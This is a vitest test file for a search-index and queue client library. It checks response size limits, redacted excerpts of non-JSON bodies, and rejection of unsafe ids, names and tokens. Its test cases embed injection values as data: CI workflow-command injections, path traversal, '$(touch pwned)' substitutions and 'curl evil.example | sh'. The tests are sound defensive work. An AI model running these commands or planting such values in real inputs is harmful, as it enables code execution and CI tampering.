import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { describe, expect, it } from "vitest";
import {
  ConfigurationError,
  deleteSearchIndex,
  ResponseValidationError,
  resumeQueues,
} from "../src/index.ts";
import { validateQueueName } from "../src/internal.ts";
import { validateIndexId, validateIndexName } from "../src/schemas/inputs.ts";
import { MAX_RESPONSE_BYTES } from "../src/transport/read-body.ts";
import { caught, emulator, managementClient, messagingClient, onCleanup } from "./helpers.ts";

/** A server that answers every request with `write(res)`. */
async function rawServer(write: (res: import("node:http").ServerResponse) => void): Promise<string> {
  const server = createServer((_req, res) => write(res));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  onCleanup(() => new Promise<void>((resolve) => server.close(() => resolve())));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

describe("answers too large or not JSON", () => {
  it("refuses a body over the limit with a clear error, declared or chunked (64 MB unless set)", async () => {
    const server = await emulator();
    server.inject("GET /v2/search", { kind: "status", status: 200, body: "a".repeat(2 * 1024 * 1024 + 1) });
    const declared = await caught(() =>
      managementClient(server, {
        retry: { maxAttempts: 1 },
        maxResponseBytes: 2 * 1024 * 1024,
      }).searchIndexes.list(),
    );
    expect(declared).toBeInstanceOf(ResponseValidationError);
    expect(declared.message).toBe(
      "list search indexes: GET /v2/search answered 200 with a body over 2 MB, more than stashkit reads",
    );
    const chunk = "[".repeat(1024 * 1024);
    const baseUrl = await rawServer((res) => {
      res.writeHead(200, { "content-type": "application/json" });
      for (let i = 0; i < 3; i++) res.write(chunk);
      res.end();
    });
    const chunked = await caught(() =>
      managementClient(server, {
        baseUrl,
        retry: { maxAttempts: 1 },
        maxResponseBytes: 2 * 1024 * 1024,
      }).searchIndexes.list(),
    );
    expect(chunked.message).toMatch(/answered 200 with a body over 2 MB/);
    expect(MAX_RESPONSE_BYTES).toBe(64 * 1024 * 1024);
  });

  it("fails a 128 KB 2xx that is not JSON with a short excerpt", async () => {
    const server = await emulator();
    server.inject("GET /v2/search", {
      kind: "status",
      status: 200,
      body: `token=abc ${"a".repeat(128 * 1024)}`,
    });
    const error = await caught(() =>
      managementClient(server, { retry: { maxAttempts: 1 } }).searchIndexes.list(),
    );
    expect(error).toBeInstanceOf(ResponseValidationError);
    expect(error.message).toMatch(/answered 200 with a body that is not JSON/);
    const { bodyExcerpt } = error as ResponseValidationError;
    expect(bodyExcerpt.length).toBeLessThanOrEqual(200);
    expect(bodyExcerpt).toMatch(/^token=\*\*\* a+…$/);
  });
});

describe("ids and names the API should never send", () => {
  it.each([
    ["an id with a line break", { id: "id-1\n::set-env name=NODE_OPTIONS::x" }, "0.id"],
    ["an id with a lone CR", { id: "id-1\r::add-mask::x" }, "0.id"],
    ["the id ..", { id: ".." }, "0.id"],
    ["an id with a slash", { id: "a/../../v1" }, "0.id"],
    ["a name with a line break", { name: "n1\n::set-output name=pwn::1" }, "0.name"],
    ["a name with a path separator", { name: "a\\b" }, "0.name"],
    // Listing checks ids and names; the entry an operation picks is checked in full, on its own.
    ["a region with a line break", { region: "eu\n\n## pwned" }, "region"],
    // Tokens, endpoints and ids end up in dotenv files and shells: only characters no shell reads.
    ["an id with a command substitution", { id: "id-$(touch pwned)" }, "0.id"],
    ["a token with a command substitution", { token: "tok$(touch pwned)" }, "token"],
    ["a read-only token with backticks and quotes", { read_only_token: "ro`id`'\"" }, "read_only_token"],
    ["an endpoint with a shell separator", { endpoint: "host; curl evil.example | sh" }, "endpoint"],
  ])("refuses %s as a response validation error, without printing it", async (_case, change, path) => {
    const server = await emulator();
    const client = managementClient(server, { retry: { maxAttempts: 1 } });
    await client.searchIndexes.create({ name: "shop", region: "eu-west-1", type: "free" });
    const [stored] = server.indexes.list();
    // Values no API would store: planted as they are, to see what the client makes of them.
    if (stored) {
      // In place of the one made (a changed id would be a second index otherwise).
      server.indexes.delete(stored.index.id);
      server.indexes.put({ ...stored, index: { ...stored.index, ...(change as object) } } as typeof stored);
    }
    server.clearRequests();
    const error = await caught(() => deleteSearchIndex(client, { name: "shop" }));
    expect(error).toBeInstanceOf(ResponseValidationError);
    expect(error.message).toContain(`answered 200 with an unexpected body (${path}: not usable`);
    const value = Object.values(change)[0] as string;
    // (The message itself names "." and ".." among what is refused.)
    if (value !== "..") expect(error.message).not.toContain(value);
    // The excerpt (not printed by the actions) is JSON: a line break in it stays escaped.
    expect((error as ResponseValidationError).bodyExcerpt).not.toMatch(/[\r\n]/);
    expect(server.requests.map((r) => r.method)).toEqual(["GET"]);
  });
});

describe("names and ids that go into a path, and lengths", () => {
  it("refuses dot segments and over-long queue names before any request", async () => {
    const server = await emulator();
    const client = messagingClient(server);
    for (const name of [".", "..", "q".repeat(129)]) {
      const error = await caught(() => resumeQueues(client, { names: [name] }));
      expect(error).toBeInstanceOf(ConfigurationError);
    }
    expect(() => validateQueueName("..", "queue-name")).toThrow(
      'queue-name ".." is invalid: "." and ".." are not queue names',
    );
    expect(() => validateQueueName("q".repeat(1000), "queue-name")).toThrow(
      /queue-name "q{20}…" is 1000 characters long: queue names may have at most 128/,
    );
    expect(validateQueueName("q".repeat(128))).toHaveLength(128);
    expect(server.requests).toEqual([]);
  });

  it("refuses an over-long or unsafe index name, and an unsafe id, before any request", async () => {
    const server = await emulator();
    const client = managementClient(server);
    await expect(
      client.searchIndexes.create({ name: "n".repeat(120 * 1024), region: "eu-west-1", type: "free" }),
    ).rejects.toThrow(/is 122880 characters long: index names may have at most 128/);
    for (const name of ["n1\n::set-output name=pwn::1", "a/b", ".", ".."])
      expect(() => validateIndexName(name)).toThrow(ConfigurationError);
    for (const id of ["..", ".", "a/b", "x\r", "i".repeat(257)]) {
      expect(() => validateIndexId(id)).toThrow(ConfigurationError);
      await expect(client.searchIndexes.delete(id)).rejects.toThrow(ConfigurationError);
    }
    expect(server.requests).toEqual([]);
  });
});
